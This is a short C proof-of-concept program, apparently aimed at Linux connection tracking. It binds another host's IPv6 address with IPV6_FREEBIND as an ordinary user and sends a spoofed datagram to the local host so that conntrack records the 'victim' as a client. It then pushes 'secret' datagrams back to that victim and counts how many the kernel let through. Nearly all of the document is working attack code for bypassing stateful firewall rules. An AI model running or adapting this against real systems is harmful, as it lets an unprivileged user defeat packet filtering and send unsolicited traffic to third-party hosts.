/*
 * forge LOCAL VICTIM: makes connection tracking believe that VICTIM is a client of this host, and then
 * "answers". An ordinary user may bind the address of another host (IPV6_FREEBIND, include/uapi/linux/in6.h)
 * and send from it to this host itself. Prints how many datagrams to VICTIM the kernel accepted.
 */
#include <arpa/inet.h>
#include <netinet/in.h>
#include <stdio.h>
#include <sys/socket.h>
#include <unistd.h>

#ifndef IPV6_FREEBIND
#define IPV6_FREEBIND 78
#endif
#define SERVICE 5000
#define CLIENT 5353
#define DATAGRAMS 3

static struct sockaddr_in6 end(const char *address, int port) {
  struct sockaddr_in6 result = {.sin6_family = AF_INET6, .sin6_port = htons(port)};
  inet_pton(AF_INET6, address, &result.sin6_addr);
  return result;
}

static int bound(struct sockaddr_in6 own) {
  int yes = 1, fd = socket(AF_INET6, SOCK_DGRAM, 0);
  setsockopt(fd, IPPROTO_IPV6, IPV6_FREEBIND, &yes, sizeof yes);
  return bind(fd, (struct sockaddr *)&own, sizeof own) == 0 ? fd : -1;
}

int main(int argc, char **argv) {
  if (argc != 3) return 2;
  struct sockaddr_in6 here = end(argv[1], SERVICE), victim = end(argv[2], CLIENT);
  int service = bound(here), client = bound(victim), taken = 0;
  if (service < 0 || client < 0) return 1;
  sendto(client, "x", 1, 0, (struct sockaddr *)&here, sizeof here);
  usleep(50000);
  for (int i = 0; i < DATAGRAMS; i++)
    taken += sendto(service, "secret", 6, 0, (struct sockaddr *)&victim, sizeof victim) == 6;
  printf("%d\n", taken);
  return 0;
}
